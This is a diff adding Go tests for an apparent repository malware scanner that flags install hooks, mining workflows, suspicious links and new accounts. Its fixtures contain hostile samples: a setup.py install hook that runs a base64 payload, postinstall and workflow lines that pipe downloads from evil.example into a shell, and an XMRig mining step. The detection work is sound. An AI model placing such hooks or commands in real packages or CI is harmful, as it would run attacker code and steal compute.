+			"class Hook(install):\n    def run(self):\n        exec(base64.b64decode(PAYLOAD))\n" +
+			"setup(name='tool', cmdclass={'install': Hook}, setup_requires=['helper @ https://evil.example/helper.whl'])\n",
+		"evil/tool/py/pyproject.toml":           "[project]\nname = \"tool\"\n\n[build-system]\nrequires = [\"setuptools\", \"boot @ https://evil.example/boot.tar.gz\"]\n",
+		"evil/tool/node_modules/x/package.json": `{"scripts": {"postinstall": "wget https://evil.example"}}`,
+	}}
+	repo := models.RepoData{Owner: "evil", Name: "tool", TreeEntries: []string{
+		"README.md", "package.json", "native/package.json", "node_modules/x/package.json", "py/setup.py", "py/pyproject.toml",
+	}}
+
+	a := NewWithOptions(client, Options{ManifestCheck: true})
+	results, err := a.CheckRepo(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	result := results[len(results)-1]
+	if result.Name != "ManifestChecker" || !result.Flagged || result.Severity != models.SeverityHigh || !a.IsMalicious(results) {
+		t.Fatalf("ManifestChecker result = %+v, want a malicious verdict", result)
+	}
+	if got := client.calls["GetFileContent"]; got != 4 {
+		t.Fatalf("GetFileContent calls = %d, want node_modules skipped", got)
+	}
+
+	flags, err := a.EvaluateRepoHeuristics(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("EvaluateRepoHeuristics() error = %v", err)
+	}
+	var descriptions []string
+	for _, flag := range flags {
+		if flag.Name == "InstallHookHeuristic" && flag.Category == "Malware" {
+			descriptions = append(descriptions, flag.Description)
+		}
+	}
+	want := []string{
+		`package.json postinstall script pipes a download into a shell: "curl -s https://evil.example/x.sh | bash".`,
+		`native/package.json install script downloads from the network: "node-gyp rebuild && curl https://example.com/prebuilt".`,
+		"py/setup.py overrides install commands with cmdclass and decodes base64.",
+		`py/setup.py setup_requires installs from a URL: 'helper @ https://evil.example/helper.whl'.`,
+		`py/pyproject.toml installs a build requirement from a URL: "boot @ https://evil.example/boot.tar.gz".`,
+	}
+	if !slices.Equal(descriptions, want) {
+		t.Fatalf("InstallHookHeuristic flags = %q, want %q", descriptions, want)
+	}
+
+	if findings := InspectManifest("package.json", `{"scripts": {"postinstall": "husky install"}}`); len(findings) != 0 {
+		t.Fatalf("InspectManifest(husky) = %q, want the allowlisted hook skipped", findings)
+	}
+}
+
+func TestWorkflowCheckerFlagsRunnerAbuse(t *testing.T) {
+	benign := `name: CI
+on:
+  push:
+  schedule:
+    - cron: "0 3 * * *"
+jobs:
+  test:
+    strategy:
+      matrix:
+        os: [ubuntu-latest, windows-latest, macos-latest]
+        go:
+          - "1.22"
+          - "1.23"
+        include:
+          - os: ubuntu-latest
+            race: true
+    runs-on: ${{ matrix.os }}
+    steps:
+      - run: curl -fsSL https://example.com/install.sh -o install.sh
+`
+	miner := `on:
+  schedule:
+    - cron: '*/5 * * * *'
+jobs:
+  build:
+    strategy:
+      matrix:
+        shard: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]
+        worker: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]
+    runs-on: ubuntu-latest
+    steps:
+      - run: wget -qO- https://evil.example/setup.sh | sudo bash
+      - run: ./XMRig -o stratum+tcp://pool.example:3333
+`
+	client := &mockGitHub{files: map[string]string{
+		"evil/tool/.github/workflows/ci.yml":     benign,
+		"evil/tool/.github/workflows/build.yaml": miner,
+	}}
+	repo := models.RepoData{Owner: "evil", Name: "tool", TreeEntries: []string{
+		"README.md", ".github/workflows/ci.yml", ".github/workflows/build.yaml", ".github/dependabot.yml",
+	}}
+
+	result, err := (&WorkflowChecker{Client: client}).Run(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	want := `Workflows abuse Actions runners: .github/workflows/build.yaml (mining indicator "xmrig"), ` +
+		`.github/workflows/build.yaml (mining indicator "stratum+tcp://"), ` +
+		`.github/workflows/build.yaml (pipes a download into a shell: "wget -qO- https://evil.example/setup.sh | sudo bash"), ` +
+		`.github/workflows/build.yaml (matrix of 256 jobs), ` +
+		`.github/workflows/build.yaml (schedule "*/5 * * * *" runs 12 times an hour).`
+	if !result.Flagged || result.Severity != models.SeverityHigh || result.Evidence != want {
+		t.Fatalf("Run() = %+v, want high severity evidence %q", result, want)
+	}
+	if got := client.calls["GetFileContent"]; got != 2 {
+		t.Fatalf("GetFileContent calls = %d, want only the two workflows read", got)
+	}
+
+	if indicators, _ := workflowIndicators(benign); len(indicators) != 0 {
+		t.Fatalf("workflowIndicators(benign) = %v, want none", indicators)
+	}
+	if got := largestMatrix(benign); got != 6 {
+		t.Fatalf("largestMatrix(benign) = %d, want 3 x 2 jobs", got)
+	}
+	for schedule, want := range map[string]int{"0,10,20,30,40,50 * * * *": 6, "5-15/5 * * * *": 3, "15 * * * *": 1, "*/7 * * *": 0} {
+		if got := cronRunsPerHour(schedule); got != want {
+			t.Errorf("cronRunsPerHour(%q) = %d, want %d", schedule, got, want)
+		}
+	}
+}
+
+func TestKeywordCheckerMatchesLinkHostnames(t *testing.T) {
+	tests := []struct {
+		name   string
+		readme string
+		tlds   []string
+		want   string
+	}{
+		{name: "suspicious host", readme: "Download: https://cheats.XYZ/setup.zip.", want: "https://cheats.XYZ/setup.zip (.xyz)"},
+		{name: "trailing dot host", readme: "See <http://promo.top./claim>", want: "http://promo.top./claim (.top)"},
+		{name: "words are not links", readme: "A pro tool for the status of us all, see setup.xyz."},
+		{name: "tld in path or query", readme: "https://example.com/docs/setup.xyz?next=evil.top"},
+		{name: "tld only as label", readme: "https://xyz.example.com/"},
+		{name: "configured suffix", readme: "https://shop.example.co.in/", tlds: []string{".CO.IN"}, want: "https://shop.example.co.in/ (.co.in)"},
+		{name: "configured list replaces default", readme: "https://cheats.xyz/", tlds: []string{"zip"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checker := &KeywordChecker{TLDs: tt.tlds}
+			result, err := checker.Run(context.Background(), models.RepoData{Readme: tt.readme})
+			if err != nil {
+				t.Fatalf("Run() error = %v", err)
+			}
+			if result.Flagged != (tt.want != "") || !strings.Contains(result.Evidence, tt.want) {
+				t.Fatalf("Run() = %+v, want flagged for %q", result, tt.want)
+			}
+		})
+	}
+
+	repo := models.RepoData{Owner: "bot", Name: "tool", Readme: "Get it at https://free-keys.xyz/get"}
+	results, err := New(&mockGitHub{}).CheckRepo(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	if len(results) != 3 || results[2].Name != "KeywordChecker" || !results[2].Flagged || IsMalicious(results, "") {
+		t.Fatalf("CheckRepo() = %+v, want a medium KeywordChecker flag by default", results)
+	}
+	for _, opts := range []Options{{SuspiciousTLDs: []string{}}, {DisabledHeuristics: []string{"KeywordChecker"}}} {
+		if results, _ := NewWithOptions(&mockGitHub{}, opts).CheckRepo(context.Background(), repo); len(results) != 2 {
+			t.Fatalf("CheckRepo() with %+v = %+v, want the checker off", opts, results)
+		}
+	}
+}
+
+func TestRedirectResolverFollowsRedirectsWithinLimits(t *testing.T) {
+	var requests []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests = append(requests, r.Method+" "+r.URL.Path)
+		switch r.URL.Path {
+		case "/short":
+			http.Redirect(w, r, "/hop", http.StatusMovedPermanently)
+		case "/hop":
+			http.Redirect(w, r, "/final?file=setup.zip", http.StatusFound)
+		case "/loop":
+			http.Redirect(w, r, "/loop", http.StatusFound)
+		case "/ftp":
+			w.Header().Set("Location", "ftp://files.example/setup.zip")
+			w.WriteHeader(http.StatusFound)
+		case "/slow":
+			time.Sleep(200 * time.Millisecond)
+		}
+	}))
+	defer server.Close()
+
+	resolver := NewRedirectResolver(3, time.Second)
+	final, err := resolver.Resolve(context.Background(), server.URL+"/short")
+	if err != nil || final != server.URL+"/final?file=setup.zip" {
+		t.Fatalf("Resolve() = %q, %v, want the end of the redirect chain", final, err)
+	}
+	if want := []string{"HEAD /short", "HEAD /hop", "HEAD /final"}; !slices.Equal(requests, want) {
+		t.Fatalf("requests = %v, want %v", requests, want)
+	}
+	if again, _ := resolver.Resolve(context.Background(), server.URL+"/short"); again != final || len(requests) != 3 {
+		t.Fatalf("second Resolve() = %q after %d requests, want it remembered", again, len(requests))
+	}
+
+	if _, err := resolver.Resolve(context.Background(), server.URL+"/loop"); !errors.Is(err, errTooManyRedirects) {
+		t.Fatalf("Resolve(loop) error = %v, want the hop limit", err)
+	}
+	if _, err := resolver.Resolve(context.Background(), server.URL+"/ftp"); err == nil {
+		t.Fatal("Resolve() followed a redirect to ftp")
+	}
+	slow := NewRedirectResolver(3, 50*time.Millisecond)
+	if _, err := slow.Resolve(context.Background(), server.URL+"/slow"); !errors.Is(err, context.DeadlineExceeded) {
+		t.Fatalf("Resolve(slow) error = %v, want the timeout", err)
+	}
+}
+
+type stubResolver map[string]string
+
+func (s stubResolver) Resolve(_ context.Context, link string) (string, error) {
+	if final, ok := s[link]; ok {
+		return final, nil
+	}
+	return link, errors.New("unreachable")
+}
+
+func TestOutboundLinkCheckerFlagsWhereLinksLead(t *testing.T) {
+	resolver := stubResolver{
+		"https://bit.ly/free-v": "https://mega.nz/file/abc#key",
+		"https://t.ly/docs":     "https://github.com/octo/tool/wiki",
+		"https://cutt.ly/drop":  "https://www.dropbox.com/s/setup.zip",
+	}
+	repo := models.RepoData{Owner: "bot", Name: "tool", Readme: strings.Join([]string{
+		"Download: https://bit.ly/free-v",
+		"Docs: https://t.ly/docs",
+		"Mirror: https://cdn.evil.example/setup.exe",
+		"Backup: https://cutt.ly/drop",
+		"Old: https://is.gd/gone",
+	}, "\n")}
+	checker := &OutboundLinkChecker{
+		Resolver:  resolver,
+		Blocklist: NewDomainList("evil.example"),
+		Allowlist: NewDomainList("*.dropbox.com"),
+	}
+
+	result, err := checker.Run(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	want := "README links to https://bit.ly/free-v, which redirects to https://mega.nz/file/abc#key on file host mega.nz; https://cdn.evil.example/setup.exe on blocklisted domain evil.example."
+	if !result.Flagged || result.Severity != models.SeverityHigh || result.Evidence != want {
+		t.Fatalf("Run() = %+v, want high severity with evidence %q", result, want)
+	}
+
+	matches := checker.Matches(context.Background(), repo)
+	if len(matches) != 2 || matches[0].Category != "Other Suspicious Patterns" || matches[1].Category != "Malware" ||
+		!strings.Contains(matches[0].Description, "https://mega.nz/file/abc#key") {
+		t.Fatalf("Matches() = %+v, want a file host flag carrying the resolved URL and a blocklist flag", matches)
+	}
+
+	clean := models.RepoData{Readme: "Old: https://is.gd/gone"}
+	if result, _ := checker.Run(context.Background(), clean); result.Flagged || !strings.Contains(result.Evidence, "https://is.gd/gone") {
+		t.Fatalf("Run() = %+v, want the unresolved link noted without a flag", result)
+	}
+
+	a := NewWithOptions(&mockGitHub{}, Options{LinkResolver: resolver})
+	flags, err := a.EvaluateRepoHeuristics(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("EvaluateRepoHeuristics() error = %v", err)
+	}
+	if !slices.ContainsFunc(flags, func(flag models.HeuristicResult) bool { return flag.Name == "OutboundLinkHeuristic" }) {
+		t.Fatalf("EvaluateRepoHeuristics() = %+v, want the outbound link flag", flags)
+	}
+	if results, _ := a.CheckRepo(context.Background(), repo); results[len(results)-1].Name != "OutboundLinkChecker" || a.IsMalicious(results) {
+		t.Fatalf("CheckRepo() = %+v, want a medium outbound link result", results)
+	}
+}
+
+func TestParseDomainList(t *testing.T) {
+	list, err := ParseDomainList("# campaign 7\nMEGA.nz\n\n*.evil.example.\n")
+	if err != nil {
+		t.Fatalf("ParseDomainList() error = %v", err)
+	}
+	for host, want := range map[string]string{"mega.nz": "mega.nz", "cdn.EVIL.example": "evil.example", "notmega.nz": "", "example": ""} {
+		if got := list.Match(host); got != want {
+			t.Errorf("Match(%q) = %q, want %q", host, got, want)
+		}
+	}
+	if _, err := ParseDomainList("https://mega.nz/file"); err == nil {
+		t.Fatal("ParseDomainList() accepted a URL")
+	}
+}
+
+func TestAnalyzeUserWeighsNewOrganizationsBelowNewUsers(t *testing.T) {
+	var repos []models.RepoMetrics
+	for _, name := range []string{"website", "docs", "sdk", "cli", "api", "design"} {
+		repos = append(repos, models.RepoMetrics{Name: name, DiskUsage: 1, StargazerCount: 6})
+	}
+	created := time.Now().Add(-48 * time.Hour)
+	mock := &mockGitHub{
+		users: map[string]time.Time{"acme42": created, "mallory42": created},
+		repos: map[string][]models.RepoMetrics{"acme42": repos, "mallory42": repos},
+		orgs:  map[string]bool{"acme42": true},
+	}
+	a := NewWithOptions(mock, Options{CommitSampleSize: -1})
+
+	user, err := a.AnalyzeUser(context.Background(), "mallory42")
+	if err != nil {
+		t.Fatalf("AnalyzeUser(user) error = %v", err)
+	}
+	if !user.Suspicious || user.OwnerType != models.OwnerTypeUser {
+		t.Fatalf("AnalyzeUser(user) = %+v, want a suspicious user", user)
+	}
+
+	org, err := a.AnalyzeUser(context.Background(), "acme42")
+	if err != nil {
+		t.Fatalf("AnalyzeUser(org) error = %v", err)
+	}
+	if org.Suspicious || org.OwnerType != models.OwnerTypeOrganization {
+		t.Fatalf("AnalyzeUser(org) = %+v, want an organization that is not suspicious", org)
+	}
+	for _, result := range org.HeuristicResults {
+		switch {
+		case result.Flag && slices.Contains([]string{"RecentHeuristic", "NewHeuristic", "UsernamePatternHeuristic"}, result.Name):
+			t.Errorf("%s flagged the organization: %s", result.Name, result.Description)
+		case result.Name == "RecentHeuristic" && result.Score != orgRecentScore:
+			t.Errorf("RecentHeuristic scored the organization %v, want %v", result.Score, orgRecentScore)
+		}
+	}
+}